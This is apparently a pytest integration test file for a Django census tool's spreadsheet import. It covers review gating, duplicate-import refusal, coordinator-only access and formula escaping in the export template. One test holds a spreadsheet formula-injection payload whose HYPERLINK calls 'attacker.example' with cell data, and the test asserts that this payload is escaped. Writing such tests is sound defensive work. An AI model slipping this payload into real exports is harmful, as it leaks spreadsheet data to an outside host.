"""Census answers imported from a file, through the test client: upload, check, confirm; the
answers then wait for the same review as answers sent from a link, and only the review writes
the register. A bad file, a file imported twice and a non-coordinator write nothing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from cradle.audit.models import AuditEntry
from cradle.census.models import Answer, AnswerImport, AnswerState, CensusFact, Invitation
from cradle.core.spreadsheets import csv_bytes, xlsx_bytes
from cradle.directory.models import RegisterClaim, Service
from tests.accounts_helpers import make_user, sign_in
from tests.integration import test_census
from tests.integration.test_census import REFERENCE, invitation_of, submitted

coordinator = test_census.coordinator
census_round = test_census.census_round

pytestmark = pytest.mark.django_db

HEADER = ["service", "service_name", "respondent_role", "contact_phone", "staffing.midwife",
          "self_referral"]
GOOD = csv_bytes(HEADER, [["T15", "Leeds", "Team manager or service lead", "0113 496 0000",
                           "0.5", "yes"],
                          ["T16", "Bradford", "clinical_lead", "", "", "no"]])


def upload(client, census_round, content, name="answers.csv"):
    return client.post(reverse("census:import", args=[census_round.pk]),
                       {"file": SimpleUploadedFile(name, content)})


def confirm(client, census_round, checked):
    pk = re.search(r'name="import" value="(\d+)"', checked.text).group(1)
    return client.post(reverse("census:import-confirm", args=[census_round.pk]),
                       {"import": pk})


def test_an_imported_file_waits_for_review_and_only_the_review_writes_the_register(
        client, coordinator, census_round):
    leeds = Service.objects.get(register_ref="T15")
    phone_before = leeds.contact_phone
    staff = sign_in(client, coordinator)
    dashboard = staff.get(reverse("census:round", args=[census_round.pk]))
    assert reverse("census:import", args=[census_round.pk]) in dashboard.text

    checked = upload(staff, census_round, GOOD)
    assert checked.status_code == 200 and "2 answers checked" in checked.text
    preview = {row.service.register_ref: row.changed_sections
               for row in checked.context["rows"]}
    assert preview["T15"] == ("Staffing", "Referral routes", "Contact details")
    assert not Answer.objects.exists()  # checking writes no answer

    done = confirm(staff, census_round, checked)
    assert done.status_code == 302 and done["Location"] == reverse("census:round",
                                                                   args=[census_round.pk])
    answer = Answer.objects.get(service=leeds)
    assert (answer.state, answer.imported_from, answer.respondent_role) == (
        AnswerState.SUBMITTED, "answers.csv", "team_manager")
    assert answer.confirmed_sections == ["staffing", "referral", "contact"]
    assert answer.invitation.submitted_at is not None  # the link now says it was answered
    assert Answer.objects.filter(round=census_round, state=AnswerState.SUBMITTED).count() == 2
    leeds.refresh_from_db()
    assert leeds.contact_phone == phone_before  # not yet: the review decides
    assert not CensusFact.objects.exists()
    assert AuditEntry.objects.filter(model_label="census.answer", action="create").count() == 2
    assert AuditEntry.objects.filter(model_label="census.answerimport").count() == 2

    page = staff.get(reverse("census:review", args=[answer.pk]))
    assert "imported from the file <span data-imported-from>answers.csv" in page.text
    keys = {change.key for change in page.context["changes"]}
    assert {"contact_phone", "staffing.midwife"} <= keys
    decisions = {f"decision-{c.form_key}": "accept" for c in page.context["changes"]}
    assert staff.post(reverse("census:review", args=[answer.pk]), decisions).status_code == 302
    leeds.refresh_from_db()
    assert leeds.contact_phone == "0113 496 0000"
    assert str(leeds.staffing.get(profession="midwife").wte) == "0.50"
    fact = CensusFact.objects.get(service=leeds, field="contact_phone")
    assert (fact.round, fact.answer, fact.respondent_role, fact.accepted_by,
            fact.effective_on) == (census_round, answer, "team_manager", coordinator, REFERENCE)
    assert RegisterClaim.objects.filter(service=leeds,
                                        dataset=f"census-{census_round.pk}").exists()


def test_the_same_file_is_imported_once(client, coordinator, census_round):
    staff = sign_in(client, coordinator)
    checked = upload(staff, census_round, GOOD)
    assert confirm(staff, census_round, checked).status_code == 302
    again = confirm(staff, census_round, checked)  # the same confirmation posted twice
    assert again.status_code == 302
    assert "was imported already" in staff.get(again["Location"]).text
    reupload = upload(staff, census_round, GOOD, name="copy.csv")
    assert reupload.status_code == 409
    assert "this file was imported into this round on" in reupload.text.lower()
    # Another file naming the same services says each already has an answer.
    other = upload(staff, census_round, csv_bytes(HEADER, [["T15", "", "other", "0113", "",
                                                            ""]]))
    assert other.status_code == 400
    assert "Row 2, column service: this service already has an answer in this round, sent " \
           "from the file answers.csv" in other.text
    assert Answer.objects.count() == 2
    assert AnswerImport.objects.filter(state="imported").count() == 1


def test_a_file_with_any_problem_writes_nothing(client, coordinator, census_round):
    staff = sign_in(client, coordinator)
    entries = AuditEntry.objects.count()
    bad = upload(staff, census_round, csv_bytes(HEADER, [
        ["T15", "", "team_manager", "0113 496 0000", "0.5", "yes"],
        ["T16", "", "team_manager", "", "lots", "perhaps"],
        ["T99", "", "team_manager", "", "", "yes"]]))
    assert bad.status_code == 400
    problems = bad.context["problems"]
    assert problems[0].startswith("Row 3, column staffing.midwife:")
    assert problems[1].startswith("Row 3, column self_referral:")
    assert problems[2].startswith("Row 4, column service: 'T99' is not a service")
    assert not Answer.objects.exists() and not AnswerImport.objects.exists()
    assert AuditEntry.objects.count() == entries


def test_an_answer_sent_between_the_check_and_the_confirmation_stops_the_whole_file(
        client, coordinator, census_round):
    staff = sign_in(client, coordinator)
    checked = upload(staff, census_round, GOOD)
    assert checked.status_code == 200
    sent = submitted(census_round, Client(), ref="T16")
    refused = confirm(staff, census_round, checked)
    assert refused.status_code == 400
    assert "Row 3, column service: this service already has an answer" in refused.text
    assert list(Answer.objects.values_list("pk", flat=True)) == [sent.pk]  # Leeds not written
    assert not AnswerImport.objects.filter(state="imported").exists()


def test_an_import_takes_the_place_of_a_draft_and_the_link_then_says_it_was_answered(
        client, coordinator, census_round):
    respondent = Client()
    invitation = invitation_of(census_round, "T15")
    test_census.open_link(respondent, invitation)  # a draft, pre-filled from the register
    draft = Answer.objects.get(invitation=invitation)
    staff = sign_in(client, coordinator)
    checked = upload(staff, census_round, GOOD)
    assert "Takes the place of a draft" in checked.text
    assert confirm(staff, census_round, checked).status_code == 302
    answer = Answer.objects.get(invitation=invitation)
    assert answer.pk == draft.pk and answer.state == AnswerState.SUBMITTED
    assert answer.values["contact_phone"] == "0113 496 0000"
    assert Invitation.objects.get(pk=invitation.pk).submitted_at is not None
    assert respondent.get(reverse("census:answer")).status_code == 410


def test_the_template_names_every_column_and_its_example_imports_as_no_change(
        client, coordinator, census_round):
    staff = sign_in(client, coordinator)
    response = staff.get(reverse("census:import-template", args=[census_round.pk]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, example = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert header[:3] == ["service", "service_name", "respondent_role"]
    assert "status" in header and "criterion.dyad_or_triad_focus" in header
    example[2] = "administrator"
    checked = upload(staff, census_round, csv_bytes(header, [example]))
    assert checked.status_code == 200, checked.context["problems"]
    (row,) = checked.context["rows"]
    assert row.changed_sections == ()
    assert confirm(staff, census_round, checked).status_code == 302
    answer = Answer.objects.get()
    assert staff.get(reverse("census:review", args=[answer.pk])).context["changes"] == []


def test_a_workbook_imports_too(client, coordinator, census_round):
    staff = sign_in(client, coordinator)
    data = xlsx_bytes(["service", "respondent_role", "accepts_to_months", "staffing.midwife"],
                      [["T15", "other", 24, 0.6]], title="answers")
    checked = upload(staff, census_round, data, name="answers.xlsx")
    assert checked.status_code == 200 and "1 answer checked" in checked.text


@pytest.mark.parametrize("name", ["census:import", "census:import-template"])
def test_only_coordinators_reach_the_import(client, census_round, name):
    sign_in(client, make_user("analyst@example.org", network_role="analyst"))
    assert client.get(reverse(name, args=[census_round.pk])).status_code == 403
    assert upload(client, census_round, GOOD).status_code == 403
    assert client.post(reverse("census:import-confirm", args=[census_round.pk]),
                       {"import": "1"}).status_code == 403
    assert not AnswerImport.objects.exists() and not Answer.objects.exists()


def test_a_confirmation_of_someone_elses_file_is_refused(client, coordinator, census_round):
    staff = sign_in(client, coordinator)
    checked = upload(staff, census_round, GOOD)
    other = sign_in(Client(), make_user("other@example.org", network_role="coordinator"))
    refused = confirm(other, census_round, checked)
    assert refused.status_code == 400 and "no checked file" in refused.text
    assert not Answer.objects.exists()


def test_the_template_cannot_run_a_formula_and_reads_its_phone_back_as_written(
        client, coordinator, census_round):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    invitation = census_round.invitations.select_related("service").first()
    Service.objects.filter(pk=invitation.service_id).update(name=formula,
                                                            contact_phone="+44 113 496 0000")
    staff = sign_in(client, coordinator)
    response = staff.get(reverse("census:import-template", args=[census_round.pk]))
    header, example = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = dict(zip(header, example, strict=True))
    assert row["service_name"] == "'" + formula
    assert row["contact_phone"] == "'+44 113 496 0000"
    example[2] = "other"
    saved = io.StringIO()
    csv.writer(saved).writerows([header, example])  # the file as downloaded, role filled in
    checked = upload(staff, census_round, saved.getvalue().encode())
    assert checked.status_code == 200 and checked.context["rows"][0].changed_sections == ()
